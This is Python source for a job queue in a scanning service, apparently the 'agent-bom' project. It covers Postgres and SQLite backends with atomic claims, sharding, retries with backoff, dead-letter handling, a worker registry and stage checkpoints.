    "ALTER TABLE scan_queue ADD COLUMN IF NOT EXISTS trace_ctx TEXT",
    "ALTER TABLE scan_queue ADD COLUMN IF NOT EXISTS kind TEXT NOT NULL DEFAULT 'scan'",
    "ALTER TABLE scan_queue ADD COLUMN IF NOT EXISTS parent_id TEXT",
    "ALTER TABLE scan_queue ADD COLUMN IF NOT EXISTS shard INTEGER NOT NULL DEFAULT 0",
    "ALTER TABLE fleet_workers ADD COLUMN IF NOT EXISTS slices_reused INTEGER NOT NULL DEFAULT 0",
    "ALTER TABLE fleet_workers ADD COLUMN IF NOT EXISTS slices_rescanned INTEGER NOT NULL DEFAULT 0",
)


class PostgresScanQueue:
    """FOR UPDATE SKIP LOCKED claim queue (multi-replica deployments)."""

    def __init__(self, dsn: str) -> None:
        import psycopg  # noqa: PLC0415 - gated dependency

        self._conn = instrument.InstrumentedConnection(
            psycopg.connect(dsn, autocommit=False),
            store="scan_queue", backend="postgres",
        )
        self._lock = threading.RLock()
        with self._lock, self._conn.cursor() as cur:
            cur.execute(_PG_DDL)
            for stmt in _PG_MIGRATE:
                cur.execute(stmt)
            cur.execute(PG_CHECKPOINT_DDL)
            self._conn.commit()

    def close(self) -> None:
        with self._lock:
            self._conn.close()

    def enqueue(self, request: dict[str, Any], tenant_id: str = "default",
                job_id: str | None = None, max_attempts: int | None = None,
                trace_ctx: str | None = None, kind: str = "scan",
                parent_id: str | None = None, or_ignore: bool = False) -> str:
        job_id = job_id or str(uuid.uuid4())
        conflict = " ON CONFLICT (id) DO NOTHING" if or_ignore else ""
        with instrument.track("db:enqueue", job_id=job_id), \
                self._lock, self._conn.cursor() as cur:
            cur.execute(
                "INSERT INTO scan_queue (id, tenant_id, request, status, enqueued_at,"
                " max_attempts, trace_ctx, kind, parent_id, shard)"
                " VALUES (%s, %s, %s, 'queued', %s, %s, %s, %s, %s, %s)" + conflict,
                (job_id, tenant_id, json.dumps(request), time.time(),
                 max_attempts or config.QUEUE_MAX_ATTEMPTS, trace_ctx,
                 kind, parent_id, shard_of(job_id, config.QUEUE_SHARDS)),
            )
            self._conn.commit()
        return job_id

    def enqueue_batch(self, items: list[dict[str, Any]]) -> list[str]:
        ids: list[str] = []
        now = time.time()
        with instrument.track("db:enqueue", n=len(items)), \
                self._lock, self._conn.cursor() as cur:
            for item in items:
                job_id = item.get("job_id") or str(uuid.uuid4())
                ids.append(job_id)
                cur.execute(
                    "INSERT INTO scan_queue (id, tenant_id, request, status,"
                    " enqueued_at, max_attempts, trace_ctx, kind, parent_id, shard)"
                    " VALUES (%s, %s, %s, 'queued', %s, %s, %s, %s, %s, %s)"
                    " ON CONFLICT (id) DO NOTHING",
                    (job_id, item.get("tenant_id", "default"),
                     json.dumps(item["request"]), now,
                     item.get("max_attempts") or config.QUEUE_MAX_ATTEMPTS,
                     item.get("trace_ctx"), item.get("kind", "scan"),
                     item.get("parent_id"),
                     shard_of(job_id, config.QUEUE_SHARDS)),
                )
            self._conn.commit()
        return ids

    def claim(self, worker_id: str,
              parent_id: str | None = None) -> dict[str, Any] | None:
        batch = self.claim_batch(worker_id, limit=1, parent_id=parent_id)
        return batch[0] if batch else None

    def claim_batch(self, worker_id: str, limit: int | None = None,
                    parent_id: str | None = None) -> list[dict[str, Any]]:
        """Shard-keyed claim: the worker's hash-affine shard value is
        tried first (``queue:shard_claim`` — SKIP LOCKED rows partition
        by the shard column, so affine claimants of different shards
        never contend on the same index range), then the filter drops
        for a steal pass (``queue:steal``). Same batch policy as the
        SQLite twin: only slice-kind rows extend past the head."""
        limit = max(limit if limit is not None else config.QUEUE_CLAIM_BATCH, 1)
        now = time.time()
        affine = shard_of(worker_id, config.QUEUE_SHARDS)
        attempts = (
            [(" AND shard = %s", [affine], "shard_claim"), ("", [], "steal")]
            if config.QUEUE_SHARDS > 1 and parent_id is None
            else [("", [], "shard_claim")]
        )
        with instrument.track("db:claim", worker=worker_id), \
                self._lock, self._conn.cursor() as cur:
            for shard_filter, shard_params, counter in attempts:
                where = "status = 'queued' AND not_before <= %s" + shard_filter
                params: list[Any] = [now, *shard_params]
                if parent_id is not None:
                    where += " AND parent_id = %s"
                    params.append(parent_id)
                cur.execute(
                    f"SELECT {_CLAIM_COLS} FROM scan_queue WHERE {where}"
                    " ORDER BY enqueued_at LIMIT %s FOR UPDATE SKIP LOCKED",
                    (*params, limit),
                )
                rows = cur.fetchall()
                if rows and (rows[0][7] or "scan") != "slice":
                    rows = rows[:1]
                else:
                    rows = [r for r in rows if (r[7] or "scan") == "slice"]
                if not rows:
                    continue
                cur.execute(
                    "UPDATE scan_queue SET status = 'claimed', claimed_by = %s,"
                    " claimed_at = %s, heartbeat_at = %s, attempts = attempts + 1"
                    " WHERE id = ANY(%s)",
                    (worker_id, now, now, [r[0] for r in rows]),
                )
                self._conn.commit()
                record_dispatch("queue", counter)
                return [_claim_row_to_dict(r) for r in rows]
            self._conn.commit()
        return []

    def heartbeat(self, job_id: str, worker_id: str) -> bool:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "UPDATE scan_queue SET heartbeat_at = %s WHERE id = %s AND claimed_by = %s"
                " AND status = 'claimed'",
                (time.time(), job_id, worker_id),
            )
            changed = cur.rowcount > 0
            self._conn.commit()
            return changed

    def complete(self, job_id: str, worker_id: str) -> bool:
        with instrument.track("db:ack", job_id=job_id, outcome="done"):
            return self._finish(job_id, worker_id, "done", None)

    def fail(self, job_id: str, worker_id: str, error: str,
             retryable: bool = True) -> bool:
        with instrument.track("db:ack", job_id=job_id, outcome="fail"):
            with self._lock, self._conn.cursor() as cur:
                cur.execute(
                    "SELECT attempts, max_attempts FROM scan_queue"
                    " WHERE id = %s AND claimed_by = %s AND status = 'claimed'"
                    " FOR UPDATE",
                    (job_id, worker_id),
                )
                row = cur.fetchone()
                if row is None:
                    self._conn.commit()
                    return False
                attempts, max_attempts = int(row[0]), int(row[1])
                if retryable and attempts < max_attempts:
                    cur.execute(
                        "UPDATE scan_queue SET status = 'queued', claimed_by = NULL,"
                        " claimed_at = NULL, heartbeat_at = NULL, not_before = %s,"
                        " error = %s WHERE id = %s",
                        (time.time() + _backoff_delay_s(attempts), error[:2000], job_id),
                    )
                    changed = cur.rowcount > 0
                    self._conn.commit()
                    if changed:
                        record_dispatch("resilience", "queue_requeue")
                    return changed
                self._conn.commit()
            ok = self._finish(job_id, worker_id, "dead_letter", error[:2000])
            if ok:
                record_dispatch("resilience", "queue_dead_letter")
            return ok

    def _finish(self, job_id: str, worker_id: str, status: str, error: str | None) -> bool:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "UPDATE scan_queue SET status = %s, finished_at = %s, error = %s"
                " WHERE id = %s AND claimed_by = %s",
                (status, time.time(), error, job_id, worker_id),
            )
            changed = cur.rowcount > 0
            self._conn.commit()
            return changed

    def complete_batch(self, job_ids: list[str], worker_id: str) -> int:
        if not job_ids:
            return 0
        with instrument.track("db:ack", n=len(job_ids), outcome="done"), \
                self._lock, self._conn.cursor() as cur:
            cur.execute(
                "UPDATE scan_queue SET status = 'done', finished_at = %s,"
                " error = NULL WHERE id = ANY(%s) AND claimed_by = %s",
                (time.time(), job_ids, worker_id),
            )
            done = cur.rowcount
            self._conn.commit()
        return done

    def children_status(self, parent_id: str) -> dict[str, int]:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT status, COUNT(*) FROM scan_queue WHERE parent_id = %s"
                " GROUP BY status",
                (parent_id,),
            )
            rows = cur.fetchall()
            self._conn.commit()
        return {status: int(n) for status, n in rows}

    def sweep_children(self, parent_id: str, error: str) -> int:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "UPDATE scan_queue SET status = 'cancelled', finished_at = %s,"
                " claimed_by = NULL, error = %s"
                " WHERE parent_id = %s AND status IN ('queued', 'claimed')",
                (time.time(), error[:2000], parent_id),
            )
            swept = cur.rowcount
            self._conn.commit()
        return swept

    def list_dead_letters(self, limit: int = 50) -> list[dict[str, Any]]:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                f"SELECT {_DEAD_LETTER_COLS} FROM scan_queue"
                " WHERE status = 'dead_letter'"
                " ORDER BY finished_at DESC LIMIT %s",
                (max(limit, 1),),
            )
            rows = cur.fetchall()
            self._conn.commit()
        return [_dead_letter_row_to_dict(r) for r in rows]

    def requeue_dead_letter(self, job_id: str) -> bool:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "UPDATE scan_queue SET status = 'queued', attempts = 0,"
                " not_before = 0, claimed_by = NULL, claimed_at = NULL,"
                " heartbeat_at = NULL, finished_at = NULL, error = NULL"
                " WHERE id = %s AND status = 'dead_letter'",
                (job_id,),
            )
            changed = cur.rowcount > 0
            self._conn.commit()
        if changed:
            record_dispatch("resilience", "dead_letter_requeued")
        return changed

    def reclaim_stale(self, visibility_timeout_s: float | None = None) -> int:
        if visibility_timeout_s is None:
            visibility_timeout_s = config.QUEUE_VISIBILITY_S
        cutoff = time.time() - visibility_timeout_s
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "UPDATE scan_queue SET status = 'dead_letter', finished_at = %s,"
                " error = COALESCE(error, 'worker died on final attempt')"
                " WHERE status = 'claimed' AND heartbeat_at < %s"
                " AND attempts >= max_attempts",
                (time.time(), cutoff),
            )
            dead = cur.rowcount
            cur.execute(
                "UPDATE scan_queue SET status = 'queued', claimed_by = NULL,"
                " claimed_at = NULL, heartbeat_at = NULL"
                " WHERE status = 'claimed' AND heartbeat_at < %s",
                (cutoff,),
            )
            requeued = cur.rowcount
            self._conn.commit()
        if dead:
            record_dispatch("resilience", "queue_dead_letter", dead)
        return dead + requeued

    def counts(self) -> dict[str, int]:
        with self._lock, self._conn.cursor() as cur:
            cur.execute("SELECT status, COUNT(*) FROM scan_queue GROUP BY status")
            rows = cur.fetchall()
            self._conn.commit()
        return {status: int(count) for status, count in rows}

    # ── worker fleet registry (contract parity with the SQLite twin) ────

    def worker_heartbeat(self, worker_id: str, *, pid: int | None = None,
                         host: str | None = None, job_id: str | None = None,
                         stage: str | None = None, claims: int = 0,
                         completions: int = 0, failures: int = 0,
                         slices_reused: int = 0,
                         slices_rescanned: int = 0) -> None:
        now = time.time()
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "INSERT INTO fleet_workers (worker_id, pid, host, current_job,"
                " current_stage, claims, completions, failures, first_seen, last_seen,"
                " slices_reused, slices_rescanned)"
                " VALUES (%s, %s, %s, %s, %s, %s, %s, %s, %s, %s, %s, %s)"
                " ON CONFLICT (worker_id) DO UPDATE SET"
                " pid = COALESCE(excluded.pid, fleet_workers.pid),"
                " host = COALESCE(excluded.host, fleet_workers.host),"
                " current_job = excluded.current_job,"
                " current_stage = excluded.current_stage,"
                " claims = fleet_workers.claims + excluded.claims,"
                " completions = fleet_workers.completions + excluded.completions,"
                " failures = fleet_workers.failures + excluded.failures,"
                " slices_reused = fleet_workers.slices_reused + excluded.slices_reused,"
                " slices_rescanned ="
                "  fleet_workers.slices_rescanned + excluded.slices_rescanned,"
                " last_seen = excluded.last_seen",
                (worker_id, pid, host, job_id, stage,
                 claims, completions, failures, now, now,
                 slices_reused, slices_rescanned),
            )
            self._conn.commit()

    def workers(self, now: float | None = None) -> list[dict[str, Any]]:
        now = now if now is not None else time.time()
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                f"SELECT {_WORKER_COLS} FROM fleet_workers ORDER BY last_seen DESC"
            )
            rows = cur.fetchall()
            self._conn.commit()
        return [_worker_row_to_dict(r, now) for r in rows]

    def queue_stats(self, now: float | None = None) -> dict[str, Any]:
        now = now if now is not None else time.time()
        with self._lock, self._conn.cursor() as cur:
            cur.execute("SELECT status, COUNT(*) FROM scan_queue GROUP BY status")
            depth = {status: int(n) for status, n in cur.fetchall()}
            cur.execute(
                "SELECT MIN(enqueued_at) FROM scan_queue"
                " WHERE status = 'queued' AND not_before <= %s",
                (now,),
            )
            oldest = cur.fetchone()[0]
            cur.execute(
                "SELECT AVG(claimed_at - enqueued_at), MAX(claimed_at - enqueued_at)"
                " FROM scan_queue WHERE claimed_at IS NOT NULL"
            )
            lat = cur.fetchone()
            cur.execute(
                "SELECT COALESCE(SUM(GREATEST(attempts - 1, 0)), 0) FROM scan_queue"
            )
            redeliveries = cur.fetchone()[0]
            cur.execute(
                "SELECT shard, status, COUNT(*), MIN(enqueued_at)"
                " FILTER (WHERE status = 'queued' AND not_before <= %s)"
                " FROM scan_queue GROUP BY shard, status",
                (now,),
            )
            shard_rows = cur.fetchall()
            self._conn.commit()
        shards: dict[int, dict[str, Any]] = {}
        for shard, status, n, oldest_q in shard_rows:
            entry = shards.setdefault(
                int(shard),
                {"shard": int(shard), "depth": {}, "oldest_eligible_age_s": 0.0,
                 "dead_letter": 0},
            )
            entry["depth"][status] = int(n)
            if status == "dead_letter":
                entry["dead_letter"] = int(n)
            if oldest_q is not None:
                entry["oldest_eligible_age_s"] = max(
                    entry["oldest_eligible_age_s"], round(now - float(oldest_q), 6)
                )
        return {
            "depth": depth,
            "oldest_eligible_age_s": round(now - float(oldest), 6) if oldest is not None else 0.0,
            "claim_latency_avg_s": round(float(lat[0]), 6) if lat[0] is not None else 0.0,
            "claim_latency_max_s": round(float(lat[1]), 6) if lat[1] is not None else 0.0,
            "redeliveries": int(redeliveries),
            "dead_letter": int(depth.get("dead_letter", 0)),
            "shards": [shards[k] for k in sorted(shards)],
        }

    # ── stage checkpoints + notify ledger (contract parity with the
    # SQLite mixin — psycopg placeholders, same semantics) ──────────────

    def save_checkpoint(self, job_id: str, stage: str, fingerprint: str,
                        output_digest: str, payload: bytes | None,
                        encoding: str) -> None:
        with instrument.track("db:checkpoint_write", job_id=job_id, stage=stage), \
                self._lock, self._conn.cursor() as cur:
            cur.execute(
                "INSERT INTO scan_checkpoints"
                " (job_id, stage, fingerprint, output_digest, encoding, payload, created_at)"
                " VALUES (%s, %s, %s, %s, %s, %s, %s)"
                " ON CONFLICT (job_id, stage) DO UPDATE SET fingerprint = EXCLUDED.fingerprint,"
                " output_digest = EXCLUDED.output_digest, encoding = EXCLUDED.encoding,"
                " payload = EXCLUDED.payload, created_at = EXCLUDED.created_at",
                (job_id, stage, fingerprint, output_digest, encoding, payload, time.time()),
            )
            self._conn.commit()

    def get_checkpoint(self, job_id: str, stage: str) -> dict[str, Any] | None:
        with instrument.track("db:checkpoint_read", job_id=job_id, stage=stage), \
                self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT fingerprint, output_digest, encoding, payload, created_at"
                " FROM scan_checkpoints WHERE job_id = %s AND stage = %s",
                (job_id, stage),
            )
            row = cur.fetchone()
            self._conn.commit()
        if row is None:
            return None
        payload = bytes(row[3]) if row[3] is not None else None
        return {
            "stage": stage,
            "fingerprint": row[0],
            "output_digest": row[1],
            "encoding": row[2],
            "payload": payload,
            "created_at": row[4],
        }

    def list_checkpoints(self, job_id: str) -> list[dict[str, Any]]:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT stage, fingerprint, output_digest, encoding, created_at"
                " FROM scan_checkpoints WHERE job_id = %s ORDER BY created_at",
                (job_id,),
            )
            rows = cur.fetchall()
            self._conn.commit()
        return [
            {"stage": r[0], "fingerprint": r[1], "output_digest": r[2],
             "encoding": r[3], "created_at": r[4]}
            for r in rows
        ]

    def clear_checkpoints(self, job_id: str) -> int:
        with self._lock, self._conn.cursor() as cur:
            cur.execute("DELETE FROM scan_checkpoints WHERE job_id = %s", (job_id,))
            cleared = cur.rowcount
            self._conn.commit()
            return cleared

    def save_slice_checkpoint(self, tenant_id: str, request_fp: str,
                              slice_fp: str, stage: str, output_digest: str,
                              payload: bytes | None, encoding: str,
                              job_id: str) -> None:
        with instrument.track("db:slice_write", stage=stage), \
                self._lock, self._conn.cursor() as cur:
            cur.execute(
                "INSERT INTO scan_slice_checkpoints"
                " (tenant_id, request_fp, slice_fp, stage, output_digest,"
                "  encoding, payload, job_id, created_at)"
                " VALUES (%s, %s, %s, %s, %s, %s, %s, %s, %s)"
                " ON CONFLICT (tenant_id, request_fp, slice_fp, stage) DO UPDATE SET"
                " output_digest = EXCLUDED.output_digest,"
                " encoding = EXCLUDED.encoding, payload = EXCLUDED.payload,"
                " job_id = EXCLUDED.job_id, created_at = EXCLUDED.created_at",
                (tenant_id, request_fp, slice_fp, stage, output_digest,
                 encoding, payload, job_id, time.time()),
            )
            self._conn.commit()

    def get_slice_checkpoint(self, tenant_id: str, request_fp: str,
                             slice_fp: str, stage: str) -> dict[str, Any] | None:
        with instrument.track("db:slice_read", stage=stage), \
                self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT output_digest, encoding, payload, job_id, created_at"
                " FROM scan_slice_checkpoints"
                " WHERE tenant_id = %s AND request_fp = %s AND slice_fp = %s"
                " AND stage = %s",
                (tenant_id, request_fp, slice_fp, stage),
            )
            row = cur.fetchone()
            self._conn.commit()
        if row is None:
            return None
        return {
            "tenant_id": tenant_id,
            "request_fp": request_fp,
            "slice_fp": slice_fp,
            "stage": stage,
            "output_digest": row[0],
            "encoding": row[1],
            "payload": bytes(row[2]) if row[2] is not None else None,
            "job_id": row[3],
            "created_at": row[4],
        }

    def count_slice_checkpoints(self, tenant_id: str | None = None) -> int:
        with self._lock, self._conn.cursor() as cur:
            if tenant_id is None:
                cur.execute("SELECT COUNT(*) FROM scan_slice_checkpoints")
            else:
                cur.execute(
                    "SELECT COUNT(*) FROM scan_slice_checkpoints WHERE tenant_id = %s",
                    (tenant_id,),
                )
            row = cur.fetchone()
            self._conn.commit()
        return int(row[0])

    def gc_checkpoints(self, retention: int, max_age_s: float = 0.0) -> dict[str, int]:
        """Retention GC — same policy as the SQLite mixin (keep the
        newest ``retention`` job chains, cap request_fp namespaces per
        tenant, sweep slice rows older than ``max_age_s``)."""
        jobs_deleted = 0
        slices_deleted = 0
        with self._lock, self._conn.cursor() as cur:
            if retention > 0:
                cur.execute(
                    "DELETE FROM scan_checkpoints WHERE job_id IN ("
                    " SELECT job_id FROM ("
                    "  SELECT job_id, MAX(created_at) AS newest"
                    "  FROM scan_checkpoints GROUP BY job_id"
                    "  ORDER BY newest DESC OFFSET %s) old_jobs)",
                    (retention,),
                )
                jobs_deleted = cur.rowcount
                cur.execute(
                    "DELETE FROM scan_slice_checkpoints WHERE (tenant_id, request_fp) IN ("
                    " SELECT tenant_id, request_fp FROM ("
                    "  SELECT tenant_id, request_fp, ROW_NUMBER() OVER ("
                    "   PARTITION BY tenant_id ORDER BY MAX(created_at) DESC) AS rn"
                    "  FROM scan_slice_checkpoints"
                    "  GROUP BY tenant_id, request_fp) ranked WHERE rn > %s)",
                    (retention,),
                )
                slices_deleted += cur.rowcount
            if max_age_s > 0:
                cur.execute(
                    "DELETE FROM scan_slice_checkpoints WHERE created_at < %s",
                    (time.time() - max_age_s,),
                )
                slices_deleted += cur.rowcount
            self._conn.commit()
        return {"jobs": jobs_deleted, "slices": slices_deleted}

    def notify_claim(self, dedupe_key: str, job_id: str, digest: str) -> bool:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "INSERT INTO notify_log (dedupe_key, job_id, doc_digest, state, created_at)"
                " VALUES (%s, %s, %s, 'pending', %s) ON CONFLICT (dedupe_key) DO NOTHING",
                (dedupe_key, job_id, digest, time.time()),
            )
            cur.execute("SELECT state FROM notify_log WHERE dedupe_key = %s", (dedupe_key,))
            row = cur.fetchone()
            self._conn.commit()
        return row is not None and row[0] != "delivered"

    def notify_mark_delivered(self, dedupe_key: str) -> None:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "UPDATE notify_log SET state = 'delivered', delivered_at = %s"
                " WHERE dedupe_key = %s",
                (time.time(), dedupe_key),
            )
            self._conn.commit()

    def notify_state(self, dedupe_key: str) -> str | None:
        with self._lock, self._conn.cursor() as cur:
            cur.execute("SELECT state FROM notify_log WHERE dedupe_key = %s", (dedupe_key,))
            row = cur.fetchone()
            self._conn.commit()
        return row[0] if row else None


def make_scan_queue(url_or_path: str):
    """postgres:// DSNs → PostgresScanQueue (shard-keyed claims);
    anything else → the sharded SQLite layout at that path (a single
    ``SQLiteScanQueue`` when ``AGENT_BOM_QUEUE_SHARDS=1``)."""
    if url_or_path.startswith(("postgres://", "postgresql://")):
        return PostgresScanQueue(url_or_path)
    if config.QUEUE_SHARDS > 1:
        return ShardedScanQueue(url_or_path)
    return SQLiteScanQueue(url_or_path)
