"""Distributed scan queue: atomic claim across replicas.

Reference parity: src/agent_bom/api/scan_queue.py +
scan_job_reconciliation.py — multiple API replicas share one scan queue
and claim jobs atomically. Two backends behind one contract:

- SQLite (reference implementation for single-host multi-process):
  BEGIN IMMEDIATE + claim-by-rowid update — the file lock makes the
  claim atomic across processes sharing the database file.
- Postgres (multi-replica): ``FOR UPDATE SKIP LOCKED`` claim, the same
  pattern the reference uses.

Delivery is at-least-once with bounded redelivery: every claim counts an
attempt, a retryable failure requeues with exponential backoff
(``not_before`` gates visibility), and a job that fails its final
attempt lands in the terminal ``dead_letter`` status instead of
retrying forever. Stale claims (worker died mid-scan) are reclaimed by
any replica once their heartbeat ages past the visibility timeout —
preserving the attempt count, so a crash-looping job still dead-letters.
"""

from __future__ import annotations

import json
import sqlite3
import threading
import time
import uuid
from pathlib import Path
from typing import Any

from agent_bom_trn import config
from agent_bom_trn.api.checkpoints import (
    PG_CHECKPOINT_DDL,
    SQLITE_CHECKPOINT_DDL,
    SQLiteCheckpointMixin,
)
from agent_bom_trn.db import instrument
from agent_bom_trn.db.connect import connect_sqlite
from agent_bom_trn.engine.telemetry import record_dispatch

_SQLITE_DDL = """
CREATE TABLE IF NOT EXISTS scan_queue (
    id TEXT PRIMARY KEY,
    tenant_id TEXT NOT NULL,
    request TEXT NOT NULL,
    status TEXT NOT NULL DEFAULT 'queued',
    enqueued_at REAL NOT NULL,
    claimed_by TEXT,
    claimed_at REAL,
    heartbeat_at REAL,
    finished_at REAL,
    error TEXT,
    attempts INTEGER NOT NULL DEFAULT 0,
    max_attempts INTEGER NOT NULL DEFAULT 3,
    not_before REAL NOT NULL DEFAULT 0,
    trace_ctx TEXT
);
CREATE INDEX IF NOT EXISTS idx_queue_status ON scan_queue (status, enqueued_at);
CREATE TABLE IF NOT EXISTS fleet_workers (
    worker_id TEXT PRIMARY KEY,
    pid INTEGER,
    host TEXT,
    current_job TEXT,
    current_stage TEXT,
    claims INTEGER NOT NULL DEFAULT 0,
    completions INTEGER NOT NULL DEFAULT 0,
    failures INTEGER NOT NULL DEFAULT 0,
    first_seen REAL NOT NULL,
    last_seen REAL NOT NULL,
    slices_reused INTEGER NOT NULL DEFAULT 0,
    slices_rescanned INTEGER NOT NULL DEFAULT 0
);
"""

# Pre-resilience databases lack the redelivery columns (and pre-SLO ones
# the trace_ctx column); ALTER is applied per column so a
# partially-migrated file converges. fleet_workers is a whole new table,
# covered by the CREATE IF NOT EXISTS above.
_MIGRATE_COLUMNS = (
    ("attempts", "INTEGER NOT NULL DEFAULT 0"),
    ("max_attempts", "INTEGER NOT NULL DEFAULT 3"),
    ("not_before", "REAL NOT NULL DEFAULT 0"),
    ("trace_ctx", "TEXT"),
)

# Differential-scan counters ride the same additive-migration pattern on
# the fleet registry (pre-PR-14 database files lack them).
_MIGRATE_WORKER_COLUMNS = (
    ("slices_reused", "INTEGER NOT NULL DEFAULT 0"),
    ("slices_rescanned", "INTEGER NOT NULL DEFAULT 0"),
)


def _worker_liveness_s() -> float:
    """A worker is live while its last heartbeat is younger than 3×
    the heartbeat cadence (read at call time so tests can tune it)."""
    return 3.0 * config.QUEUE_HEARTBEAT_S


def _worker_row_to_dict(row, now: float) -> dict[str, Any]:
    last_seen = float(row[9])
    return {
        "worker_id": row[0],
        "pid": row[1],
        "host": row[2],
        "current_job": row[3],
        "current_stage": row[4],
        "claims": int(row[5]),
        "completions": int(row[6]),
        "failures": int(row[7]),
        "first_seen": float(row[8]),
        "last_seen": last_seen,
        "slices_reused": int(row[10]),
        "slices_rescanned": int(row[11]),
        "age_s": round(now - last_seen, 3),
        "live": (now - last_seen) <= _worker_liveness_s(),
    }


_WORKER_COLS = (
    "worker_id, pid, host, current_job, current_stage,"
    " claims, completions, failures, first_seen, last_seen,"
    " slices_reused, slices_rescanned"
)


def _backoff_delay_s(attempts: int) -> float:
    """Exponential redelivery delay: base * 2^(attempts-1)."""
    return config.QUEUE_BACKOFF_BASE_S * (2 ** max(attempts - 1, 0))


class SQLiteScanQueue(SQLiteCheckpointMixin):
    """Cross-process claim queue over one SQLite file.

    Doubles as the durable checkpoint store in queue mode: stage
    checkpoints and the notify ledger live in the SAME database file as
    the queue rows, so whatever replica claims a redelivery sees them.
    """

    def __init__(self, path: str | Path) -> None:
        self.path = str(path)
        self._lock = threading.RLock()
        self._conn = connect_sqlite(self.path, store="scan_queue")
        self._conn.executescript(_SQLITE_DDL)
        self._conn.executescript(SQLITE_CHECKPOINT_DDL)
        for column, decl in _MIGRATE_COLUMNS:
            try:
                self._conn.execute(f"ALTER TABLE scan_queue ADD COLUMN {column} {decl}")
            except sqlite3.OperationalError:
                pass  # column exists (fresh DDL or already migrated)
        for column, decl in _MIGRATE_WORKER_COLUMNS:
            try:
                self._conn.execute(f"ALTER TABLE fleet_workers ADD COLUMN {column} {decl}")
            except sqlite3.OperationalError:
                pass
        self._conn.commit()

    def close(self) -> None:
        with self._lock:
            self._conn.close()

    def enqueue(self, request: dict[str, Any], tenant_id: str = "default",
                job_id: str | None = None, max_attempts: int | None = None,
                trace_ctx: str | None = None) -> str:
        job_id = job_id or str(uuid.uuid4())
        with instrument.track("db:enqueue", job_id=job_id), self._lock:
            self._conn.execute(
                "INSERT INTO scan_queue (id, tenant_id, request, status, enqueued_at,"
                " max_attempts, trace_ctx) VALUES (?, ?, ?, 'queued', ?, ?, ?)",
                (job_id, tenant_id, json.dumps(request), time.time(),
                 max_attempts or config.QUEUE_MAX_ATTEMPTS, trace_ctx),
            )
            self._conn.commit()
        return job_id

    def claim(self, worker_id: str) -> dict[str, Any] | None:
        """Atomically claim the oldest eligible queued job (BEGIN IMMEDIATE =
        cross-process write lock, so two replicas can't claim one row).
        Jobs whose backoff window (``not_before``) hasn't elapsed stay
        invisible; each successful claim counts one delivery attempt. The
        persisted ``trace_ctx`` rides along so every delivery — first or
        redelivered, any replica — parents under the submitter's trace."""
        now = time.time()
        with instrument.track("db:claim", worker=worker_id), self._lock:
            try:
                self._conn.execute("BEGIN IMMEDIATE")
            except sqlite3.OperationalError:
                return None  # another replica holds the write lock; retry later
            try:
                row = self._conn.execute(
                    "SELECT id, tenant_id, request, attempts, max_attempts, trace_ctx,"
                    " enqueued_at FROM scan_queue"
                    " WHERE status = 'queued' AND not_before <= ?"
                    " ORDER BY enqueued_at LIMIT 1",
                    (now,),
                ).fetchone()
                if row is None:
                    self._conn.execute("COMMIT")
                    return None
                self._conn.execute(
                    "UPDATE scan_queue SET status = 'claimed', claimed_by = ?,"
                    " claimed_at = ?, heartbeat_at = ?, attempts = attempts + 1"
                    " WHERE id = ? AND status = 'queued'",
                    (worker_id, now, now, row[0]),
                )
                self._conn.execute("COMMIT")
            except sqlite3.Error:
                self._conn.execute("ROLLBACK")
                raise
        return {
            "id": row[0],
            "tenant_id": row[1],
            "request": json.loads(row[2]),
            "attempts": int(row[3]) + 1,
            "max_attempts": int(row[4]),
            "trace_ctx": row[5],
            "enqueued_at": float(row[6]),
        }

    def heartbeat(self, job_id: str, worker_id: str) -> bool:
        with self._lock:
            cur = self._conn.execute(
                "UPDATE scan_queue SET heartbeat_at = ? WHERE id = ? AND claimed_by = ?"
                " AND status = 'claimed'",
                (time.time(), job_id, worker_id),
            )
            self._conn.commit()
            return cur.rowcount > 0

    # ── worker fleet registry ───────────────────────────────────────────

    def worker_heartbeat(self, worker_id: str, *, pid: int | None = None,
                         host: str | None = None, job_id: str | None = None,
                         stage: str | None = None, claims: int = 0,
                         completions: int = 0, failures: int = 0,
                         slices_reused: int = 0,
                         slices_rescanned: int = 0) -> None:
        """Upsert one worker's heartbeat: refresh last_seen and current
        job/stage (None clears them — an idle beat), add the counter
        deltas. pid/host stick from the first beat that provides them."""
        now = time.time()
        with self._lock:
            self._conn.execute(
                "INSERT INTO fleet_workers (worker_id, pid, host, current_job,"
                " current_stage, claims, completions, failures, first_seen, last_seen,"
                " slices_reused, slices_rescanned)"
                " VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)"
                " ON CONFLICT (worker_id) DO UPDATE SET"
                " pid = COALESCE(excluded.pid, fleet_workers.pid),"
                " host = COALESCE(excluded.host, fleet_workers.host),"
                " current_job = excluded.current_job,"
                " current_stage = excluded.current_stage,"
                " claims = fleet_workers.claims + excluded.claims,"
                " completions = fleet_workers.completions + excluded.completions,"
                " failures = fleet_workers.failures + excluded.failures,"
                " slices_reused = fleet_workers.slices_reused + excluded.slices_reused,"
                " slices_rescanned ="
                "  fleet_workers.slices_rescanned + excluded.slices_rescanned,"
                " last_seen = excluded.last_seen",
                (worker_id, pid, host, job_id, stage,
                 claims, completions, failures, now, now,
                 slices_reused, slices_rescanned),
            )
            self._conn.commit()

    def workers(self, now: float | None = None) -> list[dict[str, Any]]:
        """Every registered worker with liveness computed against 3×
        ``AGENT_BOM_QUEUE_HEARTBEAT_S``, most recently seen first."""
        now = now if now is not None else time.time()
        with self._lock:
            rows = self._conn.execute(
                f"SELECT {_WORKER_COLS} FROM fleet_workers ORDER BY last_seen DESC"
            ).fetchall()
        return [_worker_row_to_dict(r, now) for r in rows]

    def queue_stats(self, now: float | None = None) -> dict[str, Any]:
        """Queue-health roll-up for /metrics, GET /v1/fleet, and the load
        bench: depth by status, oldest-eligible age, claim-to-start
        latency, redelivery and dead-letter totals."""
